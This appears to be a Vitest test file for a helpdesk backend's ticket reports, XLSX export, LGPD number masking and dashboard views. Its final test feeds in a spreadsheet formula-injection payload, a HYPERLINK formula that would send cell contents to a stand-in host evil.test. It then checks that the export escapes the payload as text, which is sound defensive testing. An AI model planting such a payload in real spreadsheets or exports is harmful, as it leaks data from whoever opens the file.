import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { bearer, createUser, settle, signupCompany, startTestServer, type TestServer } from './harness';

let server: TestServer;
let admin: { token: string; companyId: number; userId: number };
const contacts: Array<{ id: number; number: string }> = [];
const tickets: number[] = [];

const call = (token: string, method: 'GET' | 'POST' | 'PUT', url: string, payload?: object) =>
  server.app.inject({ method, url, headers: bearer(token), ...(payload ? { payload } : {}) });

beforeAll(async () => {
  server = await startTestServer();
  const a = await signupCompany(server, 'Report A', 71);
  admin = { token: (await server.login(a.email, a.password)).token, companyId: a.companyId, userId: a.userId };
  for (let i = 0; i < 12; i++) {
    const number = `5521977${String(100000 + i)}`;
    const contact = await call(admin.token, 'POST', '/contacts', { name: `Report Contact ${i}`, number });
    expect(contact.statusCode, contact.body).toBe(201);
    contacts.push({ id: contact.json().id, number });
    const ticket = await call(admin.token, 'POST', '/tickets', { contactId: contact.json().id, status: 'open', userId: admin.userId });
    expect(ticket.statusCode, ticket.body).toBeLessThan(300);
    tickets.push(ticket.json().id);
  }
  // Four closed, the rest open.
  for (const id of tickets.slice(0, 4)) {
    const closed = await call(admin.token, 'PUT', `/tickets/${id}`, { status: 'closed' });
    expect(closed.statusCode, closed.body).toBe(200);
  }
}, 120_000);
afterAll(() => server?.close());

async function workbookOf(body: Buffer) {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(body as unknown as ArrayBuffer);
  return workbook;
}

describe('tickets report', () => {
  it('pages the company’s tickets newest first with totalTickets.total', async () => {
    const first = await call(admin.token, 'GET', '/ticket/reports?pageSize=5&page=1');
    expect(first.statusCode, first.body).toBe(200);
    expect(first.json().totalTickets.total).toBe(12);
    expect(first.json().tickets.map((t: { id: number }) => t.id)).toEqual([...tickets].reverse().slice(0, 5));
    const third = (await call(admin.token, 'GET', '/ticket/reports?pageSize=5&page=3')).json();
    expect(third.tickets).toHaveLength(2);
    expect(third.tickets[0]).toMatchObject({
      contactName: expect.stringMatching(/^Report Contact/),
      status: 'closed',
      userName: expect.any(String),
      NPS: null,
    });
  });

  it('filters by status, contact, user and days', async () => {
    const closed = (await call(admin.token, 'GET', `/ticket/reports?status=${encodeURIComponent('["closed"]')}&pageSize=50`)).json();
    expect(closed.totalTickets.total).toBe(4);
    expect(closed.tickets.every((t: { closedAt: string | null; supportTime: number | null }) => t.closedAt !== null && t.supportTime !== null)).toBe(true);
    const one = (await call(admin.token, 'GET', `/ticket/reports?contactId=${contacts[3]!.id}`)).json();
    expect(one.tickets.map((t: { id: number }) => t.id)).toEqual([tickets[3]]);
    const text = (await call(admin.token, 'GET', '/ticket/reports?searchParam=Contact%2011')).json();
    expect(text.totalTickets.total).toBe(1);
    expect((await call(admin.token, 'GET', `/ticket/reports?users=[${admin.userId + 999}]`)).json().totalTickets.total).toBe(0);
    expect((await call(admin.token, 'GET', '/ticket/reports?dateFrom=2000-01-01&dateTo=2000-01-02')).json().totalTickets.total).toBe(0);
  });

  it.each(['pageSize=7', 'page=0', 'dateFrom=2026-02-30', 'status=["nope"]', 'users=[0]', 'whatsappId=abc'])('refuses %s with 400', async (query) => {
    const response = await call(admin.token, 'GET', `/ticket/reports?${query}`);
    expect(response.statusCode, response.body).toBe(400);
  });

  it('exports every matching row as relatorio-de-atendimentos.xlsx, sheet RelatorioDeAtendimentos', async () => {
    const response = await call(admin.token, 'GET', `/ticket/reports/export?status=${encodeURIComponent('["open"]')}`);
    expect(response.statusCode).toBe(200);
    expect(response.headers['content-disposition']).toContain('relatorio-de-atendimentos.xlsx');
    expect(response.headers['x-total-count']).toBe('8');
    const sheet = (await workbookOf(response.rawPayload)).getWorksheet('RelatorioDeAtendimentos')!;
    expect(sheet.getRow(1).values).toEqual([
      undefined,
      'ID',
      'Conexão',
      'Contato',
      'Número',
      'Usuário',
      'Fila',
      'Status',
      'Última mensagem',
      'Abertura',
      'Fechamento',
      'Tempo de atendimento (min)',
      'NPS',
    ]);
    expect(sheet.rowCount).toBe(9);
    expect(sheet.getRow(2).getCell(1).value).toBe(tickets[11]);
    expect(sheet.getRow(2).getCell(4).value).toBe(contacts[11]!.number);
    // Abertura and Fechamento are date cells (the company's wall-clock time) with a date-time format.
    const opened = sheet.getRow(2).getCell(9);
    expect(opened.value).toBeInstanceOf(Date);
    expect(opened.numFmt).toBe('dd/mm/yyyy hh:mm');
    expect(Math.abs((opened.value as Date).getTime() - Date.now())).toBeLessThan(15 * 3_600_000);
    expect(sheet.getRow(2).getCell(10).value).toBeNull();
  });

  it('masks numbers for a plain user while lgpdHideNumber is on', async () => {
    const shown = await createUser(server, admin.companyId, 'Report Viewer', { showDashboard: true });
    const setting = await call(admin.token, 'PUT', '/settings/lgpdHideNumber', { value: 'enabled' });
    expect(setting.statusCode, setting.body).toBe(200);
    const viewer = (await server.login(shown.email, 'Secret-123')).token;
    const page = (await call(viewer, 'GET', '/ticket/reports?pageSize=50')).json();
    expect(page.tickets.length).toBe(12);
    expect(page.tickets.every((t: { contactNumber: string }) => t.contactNumber.includes('*'))).toBe(true);
    const exported = await call(viewer, 'GET', '/ticket/reports/export');
    const sheet = (await workbookOf(exported.rawPayload)).getWorksheet('RelatorioDeAtendimentos')!;
    const numbers = sheet.getColumn(4).values.slice(2).map(String);
    expect(numbers).toHaveLength(12);
    expect(numbers.every((number) => number.includes('*') && !contacts.some((c) => c.number === number))).toBe(true);
    // The admin still sees them whole.
    expect(
      (await call(admin.token, 'GET', '/ticket/reports?pageSize=50'))
        .json()
        .tickets.some((t: { contactNumber: string }) => t.contactNumber === contacts[0]!.number),
    ).toBe(true);
  });

  it('moments shows the attendant’s open tickets', async () => {
    const board = (await call(admin.token, 'GET', '/dashboard/moments')).json();
    const mine = board.attendants.find((a: { id: number }) => a.id === admin.userId);
    expect(mine.tickets.map((t: { id: number }) => t.id).sort()).toEqual(tickets.slice(4).sort());
    expect(board.pending).toEqual([]);
    expect((await call(admin.token, 'GET', '/dashboard/moments?dateStart=2026-02-30')).statusCode).toBe(400);
  });

  it('masks a contact named by its number in a card’s drill-down for a plain user under LGPD hide-number', async () => {
    const viewer = await createUser(server, admin.companyId, 'Drill Viewer', { showDashboard: true });
    const numbered = await call(admin.token, 'POST', '/contacts', { name: '5521977999999', number: '5521977999999' });
    const ticket = await call(admin.token, 'POST', '/tickets', { contactId: numbered.json().id, status: 'open', userId: admin.userId });
    const url = `/dashboard/tickets?figure=tickets&days=3&pageSize=50`;
    const seen = (await call(viewer.token, 'GET', url)).json().tickets.find((t: { id: number }) => t.id === ticket.json().id);
    expect(seen.contactName).toContain('*');
    const whole = (await call(admin.token, 'GET', url)).json().tickets.find((t: { id: number }) => t.id === ticket.json().id);
    expect(whole.contactName).toBe('5521977999999');
  });
});

describe('tickets report spreadsheet cells', () => {
  it('writes what a customer wrote, and a name a spreadsheet would run, as text (a leading apostrophe); closing dates as date cells', async () => {
    const sandbox = await call(admin.token, 'POST', '/whatsapp', { name: 'Sandbox relatório', channel: 'sandbox' });
    expect(sandbox.statusCode, sandbox.body).toBe(201);
    const name = '@SUM(1+1)';
    const message = '=HYPERLINK("http://evil.test/?leak="&A1,"clique")';
    const said = await server.app.inject({
      method: 'POST',
      url: `/sandbox/${sandbox.json().id}/messages`,
      headers: bearer(sandbox.json().token),
      payload: { from: '5521977999001', name, body: message },
    });
    expect(said.statusCode, said.body).toBe(202);
    await settle(server);
    const ticketId = said.json().ticketId as number;
    expect((await call(admin.token, 'PUT', `/tickets/${ticketId}`, { status: 'closed' })).statusCode).toBe(200);
    const response = await call(admin.token, 'GET', '/ticket/reports/export');
    const sheet = (await workbookOf(response.rawPayload)).getWorksheet('RelatorioDeAtendimentos')!;
    const rows = sheet.getSheetValues().filter((row): row is ExcelJS.CellValue[] => Array.isArray(row));
    const row = rows.find((values) => values[1] === ticketId)!;
    expect(row[3]).toBe(`'${name}`);
    expect(row[8]).toBe(`'${message}`);
    expect(row[10]).toBeInstanceOf(Date);
    expect(sheet.getRow(rows.indexOf(row) + 1).getCell(10).numFmt).toBe('dd/mm/yyyy hh:mm');
    // No cell of the sheet starts as a formula would.
    expect(rows.flat().filter((cell) => typeof cell === 'string' && /^[=+\-@\t\r]/.test(cell))).toEqual([]);
  });
});
